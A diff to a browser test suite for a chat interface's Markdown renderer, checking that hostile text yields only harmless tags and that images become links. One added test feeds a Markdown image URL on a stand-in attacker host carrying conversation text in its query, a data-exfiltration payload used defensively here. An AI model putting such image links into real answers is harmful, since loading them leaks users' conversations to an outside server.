@@ -33,13 +33,13 @@ TAGS = (
 )
 ATTRIBUTES = "aria-label align checked class disabled href rel role start tabindex target type"
 
-# Renders a Markdown text and lists what should not be there.
-INSPECT = """async ([text, tags, attributes]) => {
-  const { markdown } = await import("/page/markdown.js");
+# Calls a function of markdown.js with a text and lists what should not be in the node that it returns.
+INSPECT = """async ([name, text, tags, attributes]) => {
+  const { [name]: render } = await import("/page/markdown.js");
   const problems = [];
   const wrong = (element) => problems.push(element.outerHTML);
   const box = document.createElement("div");
-  box.append(markdown(text));
+  box.append(render(text));
   document.body.append(box);
   for (const element of box.querySelectorAll("*")) {
     if (!tags.split(" ").includes(element.localName)) wrong(element);
@@ -69,8 +69,10 @@ def test_hostile_answers_do_not_run(page: Page, server: FakeChat) -> None:
 
 
 @pytest.mark.parametrize("text", HOSTILE)
-def test_what_is_left_of_hostile_text(page: Page, text: str) -> None:
-    assert page.evaluate(INSPECT, [text, TAGS, ATTRIBUTES]) == []
+@pytest.mark.parametrize("function", ["markdown", "sanitised"])
+def test_what_is_left_of_hostile_text(browser_page: Page, function: str, text: str) -> None:
+    """Two walls: HTML in Markdown is text, and of HTML, if any gets through, the harmless tags are left."""
+    assert browser_page.evaluate(INSPECT, [function, text, TAGS, ATTRIBUTES]) == []
 
 
 @settings(max_examples=150)
@@ -84,7 +86,8 @@ def test_what_is_left_of_hostile_text(page: Page, text: str) -> None:
     )
 )
 def test_nothing_hostile_comes_of_any_mixture(browser_page: Page, pieces: list[str]) -> None:
-    assert browser_page.evaluate(INSPECT, ["".join(pieces), TAGS, ATTRIBUTES]) == []
+    for function in ("markdown", "sanitised"):
+        assert browser_page.evaluate(INSPECT, [function, "".join(pieces), TAGS, ATTRIBUTES]) == []
 
 
 @pytest.mark.parametrize("text", ["> " * 3000 + "deep", "> - " * 1500 + "deep"], ids=["quotations", "lists"])
@@ -113,6 +116,15 @@ def test_markdown_is_rendered(page: Page, server: FakeChat) -> None:
     ask(page, "Code, please")
     expect(text.locator("pre")).to_have_text("print('<b>')\n")
     expect(text.last).to_contain_text("<b>shown</b>")
+
+
+def test_an_image_is_a_link(page: Page, server: FakeChat) -> None:
+    """To load it would tell its server what was said."""
+    server.say('![a "picture"](https://evil.example/p.png?said=this)')
+    ask(page, "Show me")
+    link = answers(page).get_by_role("link", name='a "picture"')
+    expect(link).to_have_attribute("href", "https://evil.example/p.png?said=this")
+    expect(answers(page).locator("img")).to_have_count(0)
 
 
 def test_the_policy_holds(context: BrowserContext, server: FakeChat) -> None:
